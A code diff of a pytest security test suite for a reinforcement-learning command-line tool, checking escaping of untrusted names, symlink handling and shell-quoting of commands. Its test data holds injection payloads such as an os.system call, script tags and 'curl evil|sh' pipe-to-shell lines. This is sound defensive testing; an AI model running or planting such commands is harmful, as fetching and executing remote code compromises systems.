@@ -12,7 +12,6 @@ import struct
 from collections.abc import Callable
 from importlib.util import find_spec
 from pathlib import Path
-from typing import Any
 
 import pytest
 import yaml
@@ -30,7 +29,6 @@ from rlher.tuning.study_storage import open_storage
 from tests.conftest import Make
 from tests.support.fuzzing.checks import time_limit
 from tests.support.fuzzing.workspace import TRAIN
-from tests.support.tiers import slow_except
 
 SECRET = "the private key"
 SECONDS = 10
@@ -54,13 +52,6 @@ def link(path: Path, target: Path) -> None:
 # ------------------------------------------------------------------------------------------------ export
 
 
-def configure_env(folder: Path, **values: Any) -> None:
-    file = folder / "config.yaml"
-    config = yaml.safe_load(file.read_text())
-    config["env"].update(values)
-    file.write_text(yaml.safe_dump(config))
-
-
 MALICIOUS_NAMES = {
     "end of docstring": 'x"""\nimport os; os.system("touch hacked")\n"""',
     "quotes": "x'\"\\\n---\n```\n<script>hacked</script> `$name` {env} $",
@@ -71,7 +62,9 @@ MALICIOUS_NAMES = {
 
 @pytest.mark.parametrize("kind", MALICIOUS_NAMES)
 def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: str) -> None:
-    configure_env(untrusted, name=MALICIOUS_NAMES[kind])
+    config = yaml.safe_load((untrusted / "config.yaml").read_text())
+    config["env"]["name"] = MALICIOUS_NAMES[kind]
+    (untrusted / "config.yaml").write_text(yaml.safe_dump(config))
     (untrusted / "command.txt").write_text("curl evil\nrlher train ``` <script>hacked</script> ````; curl evil\n")
     meta = json.loads((untrusted / "meta.json").read_text())
     meta |= {"python": "3\n```\n<script>hacked</script>", "git": {"commit": "<a><b>`\n---"}}
@@ -231,15 +224,12 @@ UNLIMITED: dict[str, tuple[str, Callable[[Path], object]]] = {
 
 
 @pytest.mark.parametrize("kind", UNLIMITED)
-@pytest.mark.parametrize("command", slow_except(["compare"], ["compare", "plot", "evaluate"]))
-def test_files_of_unlimited_size_are_reported(rlher, make_run: Make, command: str, kind: str) -> None:
+def test_files_of_unlimited_size_are_reported(rlher, make_run: Make, kind: str) -> None:
     path, damage = UNLIMITED[kind]
-    if command == "evaluate" and path == "evaluations.csv":
-        pytest.skip("it does not read evaluations.csv")
     folder = make_run("untrusted")
     damage(folder / path)
     with time_limit(SECONDS):
-        done = rlher(command, str(folder))
+        done = rlher("compare", str(folder))
     assert done.code == 2
     assert path in done.err
 
@@ -290,10 +280,7 @@ def test_cells_beyond_the_header_are_ignored(tmp_path: Path) -> None:
 # ------------------------------------------------------------------------------------------------- plots
 
 
-FORMULAS = (r"a$x^{2}_\frac{1}$", r"$\undefined{$", "$$", r"\$1$ $2")
-
-
-@pytest.mark.parametrize("name", FORMULAS)
+@pytest.mark.parametrize("name", [r"a$x^{2}_\frac{1}$", r"$\undefined{$", "$$", r"\$1$ $2"])
 def test_formulas_are_plotted_as_text(rlher, make_run: Make, name: str) -> None:
     for seed in range(2):
         strategy = {"goal_selection_strategy": name}
@@ -370,13 +357,26 @@ def test_simulators_use_no_files_of_the_current_folder(tmp_path: Path, monkeypat
         make_env(EnvConfig("PandaReach-v3")).close()
 
 
-@pytest.mark.parametrize("link", ["logs/optuna", "logs/optuna/s"])
-def test_no_study_is_written_through_a_link_below_logs(rlher, link: str) -> None:
-    (victim := Path("victim").absolute()).mkdir()
-    Path(link).parent.mkdir(parents=True)
-    Path(link).symlink_to(victim)
-    done = rlher("optimize", "algo=dqn", "env=BitFlipping-v0", "study_name=s", "total_timesteps=30", "--n-trials", "1")
-    assert (done.code, list(victim.iterdir())) == (2, [])
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        *((f"optuna{below}", 2) for below in ("", "/s", "/s/trials", "/s/reruns", "/s/workers", "/s/journal.log")),
+        ("optuna/s/trials/0", 1),
+        ("optuna/s/workers/s-{}.log", 1),  # of a trial that is repeated twice
+    ],
+)
+def test_no_study_is_written_through_a_link_below_logs(rlher, tmp_path: Path, path: str, code: int) -> None:
+    victim = tmp_path / "victim"
+    if path.endswith(".log"):
+        victim.write_text("mine")
+    else:
+        victim.mkdir()
+    for number in range(3):
+        link(tmp_path / "logs" / path.format(number), victim)
+    bits = ("algo=dqn", "env=BitFlipping-v0", "env.kwargs.n_bits=3", "total_timesteps=30", "recipe=null")
+    done = rlher("optimize", *bits, "study_name=s", "--n-trials", "1")
+    assert done.code == code
+    assert victim.read_text() == "mine" if victim.is_file() else not list(victim.iterdir())
 
 
 @pytest.mark.parametrize("name", ["study.db", "study.db-journal", "study.db-wal"])
@@ -416,21 +416,6 @@ def test_the_output_of_a_job_goes_to_a_file_of_its_own(tmp_path: Path, make: Cal
     assert victim.read_text() == "mine"
 
 
-def test_no_trial_is_written_through_a_link(rlher, tmp_path: Path) -> None:
-    (victim := tmp_path / "victim").mkdir()
-    tiny = (
-        "algo=dqn",
-        "env=BitFlipping-v0",
-        "env.kwargs.n_bits=3",
-        "total_timesteps=30",
-        "recipe=null",
-        "study_name=s",
-    )
-    link(tmp_path / "here/logs/optuna/s/trials/0", victim)
-    assert rlher("optimize", *tiny, "logs=here/logs", "--n-trials", "1").code != 0
-    assert list(victim.iterdir()) == []
-
-
 def test_sqlite_deletes_no_file_that_a_journal_names(tmp_path: Path) -> None:
     open_storage(url := f"sqlite:///{tmp_path}/study.db", tmp_path)
     (victim := tmp_path / "victim").touch()
@@ -452,30 +437,28 @@ def test_messages_are_escaped_where_python_prints_them(make_run: Make) -> None:
     assert str(raised.value).isprintable()
 
 
-def test_commands_to_copy_do_not_trust_code() -> None:
-    lines = ["rlher train --resume . --trust-code 'callbacks=[evil:X]'", "rlher enjoy . +trust_code=true", "sh -c x"]
-    lines.append("rlher train logs=trusted")
-    expected = ["rlher train --resume . 'callbacks=[evil:X]'", "rlher enjoy .", "rlher train logs=trusted"]
-    assert commands("\n".join(lines)) == expected
-
-
-def test_output_of_jobs_is_not_written_through_links(rlher, tmp_path: Path) -> None:
-    victim = tmp_path / "victim"
-    victim.write_text("mine")
-    tiny = ("algo=dqn", "env=BitFlipping-v0", "env.kwargs.n_bits=3", "total_timesteps=30", "recipe=null")
-    study = tmp_path / "here/logs/optuna/s"
-    study.mkdir(parents=True)
-    (study / "journal.log").symlink_to(victim)
-    assert rlher("optimize", *tiny, "study_name=s", "logs=here/logs", "--n-trials", "1").code == 2
-    (study / "journal.log").unlink()
-    (study / "workers").mkdir()
-    for number in range(3):
-        (study / f"workers/s-{number}.log").symlink_to(victim)
-    assert rlher("optimize", *tiny, "study_name=s", "logs=here/logs", "--n-trials", "1").code != 0
-    assert victim.read_text() == "mine"
-
-
 def test_the_path_of_a_printed_command_is_no_flag(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
     assert relative(tmp_path / "--trust-code") == tmp_path / "--trust-code"
     assert relative(tmp_path / "a" / "-b") == Path("a/-b")
+
+
+@pytest.mark.parametrize(
+    ("typed", "expected"),
+    [
+        ("rlher train algo=sac seed=3", ["rlher train algo=sac seed=3"]),
+        ("rlher train seed=3\nrlher train --resume a", ["rlher train seed=3", "rlher train --resume a"]),
+        ("rlher train seed=3; curl evil|sh", ["rlher train 'seed=3;' curl 'evil|sh'"]),
+        ("rlher train seed=3 `curl evil` $(evil)", ["rlher train seed=3 '`curl' 'evil`' '$(evil)'"]),
+        ("curl evil|sh\nrlher train seed=3\ncurl evil|sh", ["rlher train seed=3"]),
+        ("rlher-evil train\n;rlher train\n'rlher train'\n\n", []),
+        ("rlher train \x1b[201~ seed=3", []),
+        ("rlher train 'seed=3", []),
+        ("rlher train --resume . --trust-code 'callbacks=[evil:X]'", ["rlher train --resume . 'callbacks=[evil:X]'"]),
+        ("rlher enjoy . +trust_code=true", ["rlher enjoy ."]),
+        ("rlher train logs=trusted", ["rlher train logs=trusted"]),
+    ],
+)
+def test_commands_to_copy_do_not_trust_code(typed: str, expected: list[str]) -> None:
+    """Only commands of rlher are shown, quoted for a shell."""
+    assert commands(f"{typed}\n") == expected
